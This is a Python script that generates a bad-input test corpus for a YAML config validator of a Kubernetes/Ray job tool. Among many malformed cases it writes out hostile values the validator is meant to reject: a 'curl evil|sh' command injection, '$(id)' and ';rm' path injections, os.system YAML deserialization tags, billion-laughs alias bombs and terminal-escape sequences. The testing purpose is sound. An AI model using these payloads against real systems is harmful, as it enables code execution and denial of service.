"""Write the bad-input corpus under tests/data/bad_inputs/ and its manifest.

Each case is one file plus a manifest line: file, command, expected exit code, a fragment the
message must contain, and whether the message must carry file:line:col. The corpus is committed;
run this after changing a case, then read the diff:
    .venv/bin/python tests/data/regen_bad_inputs.py
"""

from __future__ import annotations

import copy
import shutil
from pathlib import Path

import yaml

DATA = Path(__file__).resolve().parent
OUT = DATA / "bad_inputs"
CASES = OUT / "cases"

BASE = """\
name: bad-case
image: python:3.12-slim
entrypoint: train.py
compute:
  gpus: 1
policy:
  namespace: ray
  queue: kind-cpu
"""

RAY_BASE = """\
name: bad-ray
engine: rayjob
entrypoint: train.py
compute:
  workers: 2
  gpus_per_worker: 1
policy:
  namespace: ray
  queue: kind-cpu
"""

# (file, command, exit, fragment, needs file:line:col); command is validate, render (with the empty
# profile snapshot), snapshot (render base.yaml with this file as --profiles) or profiles.
Case = tuple[str, "str | bytes", str, int, str, bool]
cases: list[Case] = []


def case(name: str, content: str | bytes, fragment: str, command: str = "render", pos: bool = True, code: int = 2) -> None:
    cases.append((name, content, command, code, fragment, pos))


def with_line(key_block: str, base: str = BASE) -> str:
    """The base config with extra YAML appended (later sections are separate top-level keys)."""
    return base + key_block


def replace(old: str, new: str, base: str = BASE) -> str:
    assert old in base, old
    return base.replace(old, new)


# --- 3. YAML tags on text they cannot read, long numbers, deep nesting ---------------------------------
gpus = "  gpus: 1\n"
for tag, text, fragment in [
    ("int", "abc", "is not a whole number"),
    ("float", "x", "is not a number"),
    ("timestamp", "2001-99-99", "is not a timestamp"),
    ("timestamp", "2001-02-30", "is not a timestamp"),
    ("timestamp", "yesterday", "is not a timestamp"),
    ("int", "0x", "is not a whole number"),
    ("int", "1:99", "is not a whole number"),
    ("float", "1.2.3", "is not a number"),
    ("float", "''", "is not a number"),
    ("bool", "maybe", "compute.gpus"),
    ("binary", "'%%%'", "compute.gpus"),
    ("python/object:os.system", "x", "could not determine a constructor"),
    ("python/name:os.system", "x", "could not determine a constructor"),
    ("python/object/apply:os.system", "[ls]", "must be a whole number"),
    ("set", "{a, b}", "compute.gpus"),
    ("omap", "x", "compute.gpus"),
    ("pairs", "x", "compute.gpus"),
    ("map", "x", "compute.gpus"),
    ("seq", "x", "compute.gpus"),
    ("str", "[1, 2]", "compute.gpus"),
]:
    slug = tag.replace("/", "-").replace(":", "-").replace(".", "-")
    case(f"tag-{slug}-{len(cases):03d}.yaml", replace(gpus, f"  gpus: !!{tag} {text}\n"), fragment)
case("tag-unknown-local.yaml", replace(gpus, "  gpus: !foo 1\n"), "could not determine a constructor")
case("tag-verbatim-int.yaml", replace(gpus, "  gpus: !<tag:yaml.org,2002:int> abc\n"), "is not a whole number")
case("tag-percent-escape-control.yaml", replace(gpus, "  gpus: !%1b%5b31m x\n"), "could not determine a constructor")
case("tag-on-key.yaml", with_line("!!int abc: 1\n"), "is not a whole number")
case("tag-timestamp-name.yaml", replace("name: bad-case\n", "name: !!timestamp 2001-13-01\n"), "is not a timestamp")
case("tag-float-max-retries.yaml", with_line("resilience:\n  max_retries: !!float nope\n"), "is not a number")
for digits in (65, 400, 4301, 5000, 20000):
    case(f"number-{digits}-digits-gpus.yaml", replace(gpus, f"  gpus: {'9' * digits}\n"), f"is a number of {digits:,} digits")
case("number-5000-digits-negative.yaml", replace(gpus, f"  gpus: -{'1' * 5000}\n"), "is a number of 5,000 digits")
case("number-5000-digits-float.yaml", replace(gpus, f"  gpus: {'1' * 5000}.5\n"), "is a number of 5,002 digits")
case("number-5000-digits-hex.yaml", replace(gpus, f"  gpus: 0x{'f' * 5000}\n"), "is a number of 5,002 digits")
case("number-5000-digits-key.yaml", with_line(f"? {'7' * 5000}\n: x\n"), "is a number of 5,000 digits")
case("number-1100-digits-simple-key.yaml", with_line(f"{'7' * 1100}: x\n"), "YAML syntax error")
case("number-400-digit-max-retries.yaml", with_line(f"resilience:\n  max_retries: {'4' * 400}\n"), "is a number of 400 digits")
case("number-max-retries-int32-overflow.yaml", with_line("resilience:\n  max_retries: 2147483648\n"), "must be <= 2147483647")
case("number-ttl-int32-overflow.yaml", with_line("run:\n  ttl_seconds_after_finished: 9999999999\n"), "must be <= 2147483647")
case("number-nodes-int32-overflow.yaml", with_line("execution:\n  launcher: torchrun\n  nodes: 4294967296\n"), "must be <= 2147483647")
case("number-workers-int32-overflow.yaml", replace("  workers: 2\n", "  workers: 3000000000\n", RAY_BASE), "must be <= 2147483647")
case("number-gpus-int64-max.yaml", replace(gpus, "  gpus: 9223372036854775807\n"), "must be <= 2147483647")
case("number-num-samples-overflow.yaml", with_line("execution:\n  num_samples: 99999999999\n"), "must be <= 2147483647")
case("number-infinity-gpus.yaml", replace(gpus, "  gpus: .inf\n"), "must be a whole number")
case("number-nan-gpus.yaml", replace(gpus, "  gpus: .nan\n"), "must be a whole number")
case("number-1e999-gpus.yaml", replace(gpus, "  gpus: 1e999\n"), "must be a whole number")
case("number-sexagesimal-gpus.yaml", replace(gpus, "  gpus: 1:30\n"), "must be a whole number (got '1:30')")
case("number-sexagesimal-max-retries.yaml", with_line("resilience:\n  max_retries: 190:20:30\n"), "must be a whole number")
case("number-sexagesimal-float.yaml", replace(gpus, "  gpus: 1:30.5\n"), "must be a whole number")
case("number-octal-gpus.yaml", replace(gpus, "  gpus: 010\n"), "must be a whole number (got '010')")
case("number-float-gpus.yaml", replace(gpus, "  gpus: 1.5\n"), "must be a whole number")
case("number-bool-gpus.yaml", replace(gpus, "  gpus: yes\n"), "must be a whole number")
case("number-negative-gpus.yaml", replace(gpus, "  gpus: -1\n"), "must be >= 0")
case("number-string-gpus.yaml", replace(gpus, "  gpus: one\n"), "must be a whole number")
for depth in (65, 300, 1000, 5000):
    case(f"nesting-flow-{depth}.yaml", with_line("execution:\n  configs:\n    x: " + "[" * depth + "]" * depth + "\n"), f"deeper than 64 levels")
    case(f"nesting-flow-map-{depth}.yaml", with_line("execution:\n  configs:\n    x: " + "{a: " * depth + "1" + "}" * depth + "\n"), "deeper than 64 levels")
case("nesting-block-300.yaml", with_line("execution:\n  configs:\n" + "".join(" " * (i + 4) + f"k{i}:\n" for i in range(300)) + " " * 304 + "v\n"), "deeper than 64 levels")
case("nesting-list-block-300.yaml", with_line("metrics:\n  history:\n" + "".join(" " * (i + 2) + "-\n" for i in range(300)) + " " * 302 + "x\n"), "deeper than 64 levels")

# --- long path components and odd paths (payload and snapshot paths) ---------------------------------
long_name = "a" * 300
case("path-entrypoint-long-component.yaml", replace("entrypoint: train.py\n", f"entrypoint: {long_name}.py\n"), "too long for the file system")
case("path-entrypoint-very-long.yaml", replace("entrypoint: train.py\n", "entrypoint: " + "/".join(["d" * 200] * 30) + ".py\n"), "too long for the file system")
case("path-entrypoint-nul.yaml", replace("entrypoint: train.py\n", 'entrypoint: "tra\\0in.py"\n'), "must be a clean relative path")
case("path-entrypoint-control.yaml", replace("entrypoint: train.py\n", 'entrypoint: "tra\\x1b[2Jin.py"\n'), "\\x1b")
case("path-entrypoint-shell.yaml", replace("entrypoint: train.py\n", "entrypoint: 'train.py;curl evil|sh'\n"), "may use only letters")
case("path-entrypoint-space.yaml", replace("entrypoint: train.py\n", "entrypoint: my train.py\n"), "may use only letters")
case("path-entrypoint-dollar.yaml", replace("entrypoint: train.py\n", "entrypoint: $(id).py\n"), "may use only letters")
case("path-entrypoint-parent.yaml", replace("entrypoint: train.py\n", "entrypoint: ../train.py\n"), "clean relative path")
case("path-entrypoint-absolute.yaml", replace("entrypoint: train.py\n", "entrypoint: /etc/passwd\n"), "clean relative path")
case("path-entrypoint-directory.yaml", replace("entrypoint: train.py\n", "entrypoint: subdir\n"), "is not a regular file")
case("path-entrypoint-dot.yaml", replace("entrypoint: train.py\n", "entrypoint: .\n"), "is not a regular file")
case("path-entrypoint-missing.yaml", replace("entrypoint: train.py\n", "entrypoint: nope.py\n"), "not found in")
case("path-entrypoint-through-file.yaml", replace("entrypoint: train.py\n", "entrypoint: train.py/x.py\n"), "not a directory")
case("path-working-dir-long.yaml", with_line(f"run:\n  working_dir: {long_name}\n", RAY_BASE), "too long for the file system")
case("path-working-dir-parent.yaml", with_line("run:\n  working_dir: ../..\n", RAY_BASE), "clean relative path")
case("path-working-dir-file.yaml", with_line("run:\n  working_dir: train.py\n", RAY_BASE), "is not a directory")
case("path-snapshot-long-component.yaml", with_line(f"  team: t\n  lane: training\n  workload_profile_snapshot: {long_name}.yaml\n").replace("  queue: kind-cpu\n", ""), "too long for the file system", command="render-config-snapshot")
case("path-snapshot-directory.yaml", with_line("  team: t\n  lane: training\n  workload_profile_snapshot: subdir\n").replace("  queue: kind-cpu\n", ""), "is a directory", command="render-config-snapshot", pos=False)
case("path-snapshot-nul.yaml", with_line('  team: t\n  lane: training\n  workload_profile_snapshot: "a\\0b"\n').replace("  queue: kind-cpu\n", ""), "NUL", command="render-config-snapshot")
case("path-snapshot-missing.yaml", with_line("  team: t\n  lane: training\n  workload_profile_snapshot: none.yaml\n").replace("  queue: kind-cpu\n", ""), "file not found", command="render-config-snapshot")
case("path-snapshot-is-config.yaml", with_line("  team: t\n  lane: training\n  workload_profile_snapshot: train.py\n").replace("  queue: kind-cpu\n", ""), "", command="render-config-snapshot", pos=False)
case("path-checkpoint-control.yaml", with_line('storage:\n  checkpoint: "a\\nb"\n'), "storage.checkpoint")
case("path-source-path-shell.yaml", replace("entrypoint: train.py\n", "entrypoint: train.py\nrun:\n  source:\n    image: registry.example/src@sha256:" + "0" * 64 + "\n    path: /src;rm\n"), "run.source.path")

# --- 5. amplification and control characters -----------------------------------------------------------
case("amplify-aliases-1k-string.yaml", with_line("x: &s " + "y" * 1024 + "\nl: [" + ",".join(["*s"] * 24_000) + "]\n"), "characters", pos=False)
case("amplify-billion-laughs.yaml", with_line("a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol,lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(9))), "aliases expand", pos=False)
case("amplify-merge-bomb.yaml", with_line("a: &a {" + ", ".join(f"k{i}: {'v' * 50}" for i in range(200)) + "}\nb: &b {<<: [" + ", ".join(["*a"] * 50) + "]}\nc: [" + ",".join(["*b"] * 300) + "]\n"), "aliases expand", pos=False)
case("amplify-alias-keys.yaml", with_line("k: &k " + "z" * 2000 + "\nm: {" + ", ".join(f"? *k : {i}" for i in range(3)) + "}\n"), "duplicate key")
case("amplify-30k-unknown-keys.yaml", with_line("".join(f"k{i}: 0\n" for i in range(30_000))), "more", pos=True)
case("amplify-3k-unknown-in-compute.yaml", replace(gpus, gpus + "".join(f"  bogus_{i:04d}: 1\n" for i in range(3000))), "… and", pos=True)
case("amplify-100kb-name.yaml", replace("name: bad-case\n", "name: " + "N" * 100_000 + "\n"), "characters")
case("amplify-100kb-key.yaml", with_line("? " + "K" * 100_000 + "\n: 1\n"), "unknown key")
case("amplify-200kb-image.yaml", replace("image: python:3.12-slim\n", "image: " + "i" * 200_000 + "\n"), "(200,000 characters)")
case("amplify-long-queue.yaml", replace("  queue: kind-cpu\n", "  queue: " + "q" * 50_000 + "\n"), "is not a valid LocalQueue name")
case("amplify-many-bad-env.yaml", with_line("runtime:\n  env:\n" + "".join(f"    'BAD NAME {i}': x\n" for i in range(2000))), "… and")
case("amplify-long-duration.yaml", with_line("resilience:\n  backoff_initial: " + "9" * 60 + "h" * 20_000 + "\n"), "resilience.backoff_initial")
case("amplify-many-duplicates.yaml", with_line("".join("dup: 1\n" for _ in range(10_000))), "duplicate key")
case("control-ansi-key.yaml", with_line('"\\e[2J\\e[31mevil": 1\n'), "\\x1b[2J")
case("control-ansi-value-name.yaml", replace("name: bad-case\n", 'name: "\\e]0;pwned\\a"\n'), "\\x1b]0;pwned\\x07")
case("control-bidi-key.yaml", with_line('"ab\\u202ecd": 1\n'), "\\u202e")
case("control-bidi-name.yaml", replace("name: bad-case\n", 'name: "run\\u202eexe"\n'), "\\u202e")
case("control-c1-key.yaml", with_line('"\\x9b31m": 1\n'), "\\x9b")
case("control-bell-image.yaml", replace("image: python:3.12-slim\n", 'image: "python\\a:3"\n'), "\\x07")
case("control-ansi-queue.yaml", replace("  queue: kind-cpu\n", '  queue: "\\e[31mred"\n'), "\\x1b[31m")
case("control-ansi-namespace.yaml", replace("  namespace: ray\n", '  namespace: "\\e[1mray"\n'), "\\x1b[1m")
case("control-ansi-env-name.yaml", with_line('runtime:\n  env:\n    "\\e[2JX": y\n'), "\\x1b[2J")
case("control-ansi-unknown-section-key.yaml", replace(gpus, gpus + '  "\\e[31mgpus": 2\n'), "\\x1b[31m")
case("control-ansi-in-duration.yaml", with_line('resilience:\n  backoff_max: "\\e[31m5m"\n'), "\\x1b[31m")
case("control-newline-in-key.yaml", with_line('"a\\nb": 1\n'), "a\\nb")
case("control-lone-surrogate-env.yaml", with_line('runtime:\n  env:\n    X: "\\ud800"\n'), "surrogate")
case("control-lone-surrogate-name.yaml", replace("name: bad-case\n", 'name: "\\udfff"\n'), "surrogate")
case("control-nel-in-name.yaml", replace("name: bad-case\n", 'name: "a\\Nb"\n'), "\\x85")

# --- 6. values that validate but are wrong ---------------------------------------------------------------
for value, fragment in [
    ("a..b", "is not a valid PVC name"), ("a.-b", "is not a valid PVC name"), ("-a", "is not a valid PVC name"),
    ("A", "is not a valid PVC name"), ("a_b", "is not a valid PVC name"), ("p" * 254, "is not a valid PVC name"),
    ("a.b_c", "is not a valid PVC name"),
]:
    case(f"name-data-pvc-{len(cases):03d}.yaml", with_line(f"storage:\n  data_pvc: '{value}'\n"), fragment)
case("name-result-pvc-dots.yaml", with_line("storage:\n  data_pvc: a\n  result_pvc: a..b\n"), "is not a valid PVC name")
case("name-volume-claim-dots.yaml", with_line("storage:\n  volumes: ['a..b:/models']\n"), "must be CLAIM:/mount/path")
case("name-volume-claim-300.yaml", with_line(f"storage:\n  volumes: ['{'c' * 300}:/models']\n"), "a PVC name has at most 253")
case("name-mount-claim-dash-dot.yaml", with_line("storage:\n  mounts: ['a.-b:/models:ro']\n"), "must be CLAIM:/mount/path")
for value in ("a.-b", "a..b", ".a", "a.", "Q", "q" * 64, "q_q", "a b"):
    case(f"name-queue-{len(cases):03d}.yaml", replace("  queue: kind-cpu\n", f"  queue: '{value}'\n"), "is not a valid LocalQueue name")
for value in ("Ray", "r" * 64, "a.b", "-ray", "ray-"):
    case(f"name-namespace-{len(cases):03d}.yaml", replace("  namespace: ray\n", f"  namespace: '{value}'\n"), "is not a valid namespace name")
for value in ("Bad_Name", "a.b", "x" * 64, "-run", "run-"):
    case(f"name-run-{len(cases):03d}.yaml", replace("name: bad-case\n", f"name: '{value}'\n"), "name: must be a DNS label" if len(value) < 64 else "at most 63")
case("name-secret-dots.yaml", with_line("runtime:\n  env_secret:\n    TOKEN: a..b:key\n"), "must be SECRET_NAME:KEY")
case("name-secret-long.yaml", with_line(f"runtime:\n  env_secret:\n    TOKEN: {'s' * 254}:key\n"), "must be SECRET_NAME:KEY")
case("name-secret-key-long.yaml", with_line(f"runtime:\n  env_secret:\n    TOKEN: s:{'k' * 254}\n"), "must be SECRET_NAME:KEY")
case("name-asset-too-long.yaml", replace("entrypoint: train.py\n", "entrypoint: train.py\nstorage:\n  image_assets:\n  - name: " + "a" * 60 + "\n    image: reg.example/x@sha256:" + "0" * 64 + "\n    source_path: /m\n    mount_path: /assets/m\n"), "DNS label of at most 53")
case("name-priority-class.yaml", with_line("  workload_priority_class: High_Priority\n"), "is not a valid PriorityClass name")
case("name-pod-priority-class-long.yaml", with_line(f"  pod_priority_class: {'p' * 254}\n"), "is not a valid PriorityClass name")
case("name-team-space.yaml", with_line("  team: my team\n"), "cannot be a Kubernetes label value")
case("name-team-long.yaml", with_line(f"  team: {'t' * 64}\n"), "cannot be a Kubernetes label value")
case("name-workspace-slash.yaml", with_line("  workspace: a/b\n"), "cannot be a Kubernetes label value")
case("name-experiment-long.yaml", with_line(f"experiment:\n  name: {'e' * 70}\n"), "cannot be a Kubernetes label value")
case("name-node-selector-key.yaml", with_line("  node_selector:\n    'bad key': x\n"), "is not a valid label key")
case("name-node-selector-prefix.yaml", with_line("  node_selector:\n    'Bad..Prefix/x': y\n"), "is not a valid label key")
case("name-node-selector-value.yaml", with_line(f"  node_selector:\n    tier: '{'v' * 64}'\n"), "is not a valid label value")
case("name-node-selector-int.yaml", with_line("  node_selector:\n    tier: 1\n"), "must be a string")
for value in ("Python:3", "python:3.12 slim", ":latest", "python@sha256:zz", "-python", "python:" + "t" * 129,
              "reg.example/" + "a" * 300, "python::3", "http://reg.example/x", "a//b", "python:3@", "ünïcode:1"):
    case(f"image-{len(cases):03d}.yaml", replace("image: python:3.12-slim\n", f"image: '{value}'\n"), "image: ")
case("image-source-bad-grammar.yaml", replace("entrypoint: train.py\n", "entrypoint: train.py\nrun:\n  source:\n    image: UPPER/src@sha256:" + "0" * 64 + "\n"), "run.source.image")
case("image-asset-bad-grammar.yaml", replace("entrypoint: train.py\n", "entrypoint: train.py\nstorage:\n  image_assets:\n  - name: m\n    image: Bad//x@sha256:" + "0" * 64 + "\n    source_path: /m\n    mount_path: /assets/m\n"), "image_assets[0].image")

# --- syntax and file-level problems --------------------------------------------------------------------
case("syntax-tab-indent.yaml", "name: a\ncompute:\n\tgpus: 1\n", "YAML syntax error")
case("syntax-unclosed-quote.yaml", 'name: "a\nimage: x\n', "YAML syntax error")
case("syntax-unclosed-flow.yaml", "name: [a, b\n", "YAML syntax error")
case("syntax-undefined-alias.yaml", "name: *nope\n", "YAML syntax error")
case("syntax-bad-indent.yaml", "name: a\n  image: b\n", "YAML syntax error")
case("syntax-mapping-key.yaml", BASE + "? [a, b]\n: c\n", "keys must be plain strings")
case("syntax-null-key.yaml", BASE + "~: 1\n", "keys must be plain strings")
case("syntax-bool-key.yaml", BASE + "yes: 1\n", "keys must be plain strings")
case("syntax-merge-scalar.yaml", BASE + "x:\n  <<: 1\n", "a merge key (<<) must point at a mapping")
case("syntax-directive.yaml", "%YAML 2.0\n---\nname: a\n", "YAML", pos=False)
case("syntax-bad-escape.yaml", 'name: "\\q"\n', "YAML syntax error")
case("syntax-reserved-indicator.yaml", "name: @a\n", "YAML syntax error")
case("file-empty.yaml", "", "the file is empty", pos=False)
case("file-only-comment.yaml", "# nothing\n", "no YAML document", pos=False)
case("file-two-documents.yaml", BASE + "---\nname: b\n", "expected one YAML document")
case("file-top-level-list.yaml", "- a\n- b\n", "the top level must be a mapping")
case("file-top-level-scalar.yaml", "hello\n", "the top level must be a mapping")
case("file-nul-byte.yaml", BASE.encode() + b"\x00\n", "binary file", pos=False)
case("file-binary.bin", bytes(range(256)) * 8, "binary file", pos=False)
case("file-invalid-utf8.yaml", b"name: caf\xe9\n", "not valid UTF-8")
case("file-utf16.yaml", BASE.encode("utf-16"), "", pos=False)
case("file-cr-only.yaml", BASE.replace("\n", "\r") + "bogus: 1\r", "unknown key")
case("file-validate-tag.yaml", replace(gpus, "  gpus: !!int abc\n"), "is not a whole number", command="validate")
case("file-validate-deep.yaml", with_line("x: " + "[" * 400 + "]" * 400 + "\n"), "deeper than 64 levels", command="validate")
case("file-validate-5000-digits.yaml", with_line(f"x: {'5' * 5000}\n"), "5,000 digits", command="validate")

# --- malformed profile snapshots: wrong types anywhere ----------------------------------------------------
snapshot = yaml.safe_load((DATA / "profiles" / "snapshot.yaml").read_text())


def snapshot_case(name: str, mutate, fragment: str, command: str = "snapshot", pos: bool = True) -> None:
    doc = copy.deepcopy(snapshot)
    mutate(doc)
    case(name, yaml.safe_dump(doc, sort_keys=False, allow_unicode=True), fragment, command=command, pos=pos)


def set_in(doc, path, value):
    node = doc
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value


wrong_types = [
    (("profiles",), {"a": 1}, "must be a list"),
    (("profiles",), "all", "must be a list"),
    (("profiles", 0), "a-profile", "must be a mapping"),
    (("profiles", 1), 7, "must be a mapping"),
    (("profiles", 0, "name"), 5, "is required and must be a string"),
    (("profiles", 0, "name"), None, "is required and must be a string"),
    (("profiles", 0, "name"), ["a"], "is required and must be a string"),
    (("profiles", 0, "gpusPerWorker"), "1", "must be a whole number"),
    (("profiles", 0, "gpusPerWorker"), [1], "must be a whole number"),
    (("profiles", 0, "gpusPerWorker"), 1.5, "must be a whole number"),
    (("profiles", 0, "gpusPerWorker"), True, "must be a whole number"),
    (("profiles", 0, "gpusPerWorker"), -1, "must be between 0"),
    (("profiles", 0, "gpusPerWorker"), 2**40, "must be between 0"),
    (("profiles", 0, "workerCount"), 0, "must be between 1"),
    (("profiles", 0, "workerCount"), {"n": 1}, "must be a whole number"),
    (("profiles", 0, "applicability"), ["training"], "must be a mapping"),
    (("profiles", 0, "applicability"), "all", "must be a mapping"),
    (("profiles", 0, "applicability", "teams"), "research", "must be a list"),
    (("profiles", 0, "applicability", "teams"), [1, 2], "must be a string"),
    (("profiles", 0, "applicability", "lanes"), {"a": 1}, "must be a list"),
    (("profiles", 0, "applicability", "namespaces"), [["x"]], "must be a string"),
    (("profiles", 0, "priorities"), "high", "must be a mapping"),
    (("profiles", 0, "priorities", "workloadPriorityClassName"), ["x"], "must be a string"),
    (("profiles", 0, "priorities", "podPriorityClassName"), 3, "must be a string"),
    (("profiles", 0, "localQueues"), {"namespace": "x"}, "must be a list"),
    (("profiles", 0, "localQueues"), ["jobqueue"], "must be a mapping"),
    (("profiles", 0, "localQueues"), [None], "must not be empty"),
    (("profiles", 0, "localQueues", 0, "name"), 1, "must be a string"),
    (("profiles", 0, "localQueues", 0, "namespace"), {"a": "b"}, "must be a string"),
    (("profiles", 0, "clusterQueues"), "jobqueue", "must be a list"),
    (("profiles", 0, "clusterQueues"), [[]], "must be a string"),
    (("profiles", 0, "resourceFlavors"), [1], "must be a string"),
    (("profiles", 0, "topologies"), {"a": "b"}, "must be a list"),
    (("profiles", 0, "conditions"), "Ready", "must be a list"),
    (("profiles", 0, "conditions"), [1, 2], "must be a mapping"),
    (("profiles", 0, "conditions", 0, "status"), True, "must be a string"),
    (("profiles", 0, "conditions", 0, "observedGeneration"), "7", "must be a whole number"),
    (("profiles", 0, "conditions", 0, "type"), ["Ready"], "must be a string"),
    (("profiles", 0, "conditions", 0, "lastTransitionTime"), 12, "must be a string"),
    (("profiles", 0, "disableDefaultPriorities"), "yes", "must be true or false"),
    (("profiles", 0, "mode"), ["fixed"], "must be a string"),
    (("profiles", 0, "placement"), 1, "must be a string"),
    (("profiles", 0, "defaultLocalQueue"), {"q": 1}, "must be a string"),
    (("profiles", 0, "executionTarget"), 5, "must be a string"),
    (("profiles", 0, "description"), {"x": 1}, "must be a string"),
    (("tauClusterGeneration",), "7", "tauClusterGeneration must be an integer"),
    (("tauClusterGeneration",), True, "tauClusterGeneration must be an integer"),
    (("tauClusterGeneration",), -1, "tauClusterGeneration must be an integer"),
    (("profileSetHash",), ["abc"], "must be a string"),
    (("kind",), "Pod", "expected apiVersion"),
]
for index, (path, value, fragment) in enumerate(wrong_types):
    snapshot_case(f"snapshot-{index:02d}-{'-'.join(str(p) for p in path[-2:]).lower()}.yaml", lambda d, p=path, v=value: set_in(d, p, v), fragment)
for index, (path, value, fragment) in enumerate(wrong_types[:12]):
    snapshot_case(f"snapshot-profiles-cmd-{index:02d}.yaml", lambda d, p=path, v=value: set_in(d, p, v), fragment, command="profiles")
case("snapshot-tag-int.yaml", (DATA / "profiles" / "snapshot.yaml").read_text().replace("gpusPerWorker: 1\n", "gpusPerWorker: !!int abc\n", 1), "is not a whole number", command="snapshot")
case("snapshot-5000-digits.yaml", (DATA / "profiles" / "snapshot.yaml").read_text().replace("tauClusterGeneration: 7\n", f"tauClusterGeneration: {'7' * 5000}\n", 1), "5,000 digits", command="snapshot")
case("snapshot-top-level-list.yaml", "- a\n", "the top level must be a mapping", command="snapshot")
case("snapshot-empty.yaml", "", "the file is empty", command="snapshot", pos=False)
case("snapshot-deep.yaml", "profiles: " + "[" * 500 + "]" * 500 + "\n", "deeper than 64 levels", command="snapshot")
case("snapshot-ansi-name.yaml", (DATA / "profiles" / "snapshot.yaml").read_text().replace("- name: azure.research.training.l\n", '- name: "\\e[2J\\e[31mpwned"\n', 1), "", command="profiles", pos=False, code=0)


def main() -> None:
    if CASES.exists():
        shutil.rmtree(CASES)
    (CASES / "subdir").mkdir(parents=True)
    (CASES / "subdir" / "keep.txt").write_text("a directory, for cases that name one\n")
    (CASES / "train.py").write_text('print("train")\n')
    (OUT / "train.py").write_text('print("train")\n')
    (OUT / "base.yaml").write_text(BASE)  # the valid config the snapshot cases render
    names = set()
    lines = ["# file\tcommand\texit\tfragment\tposition (file:line:col required)"]
    for name, content, command, code, fragment, pos in cases:
        assert name not in names, name
        assert "\t" not in fragment and "\n" not in fragment
        names.add(name)
        path = CASES / name
        if isinstance(content, str):
            path.write_text(content)
        else:
            path.write_bytes(content)
        lines.append(f"{name}\t{command}\t{code}\t{fragment}\t{'pos' if pos else '-'}")
    (OUT / "manifest.tsv").write_text("\n".join(lines) + "\n")
    print(f"{len(cases)} cases written to {CASES}")


if __name__ == "__main__":
    main()
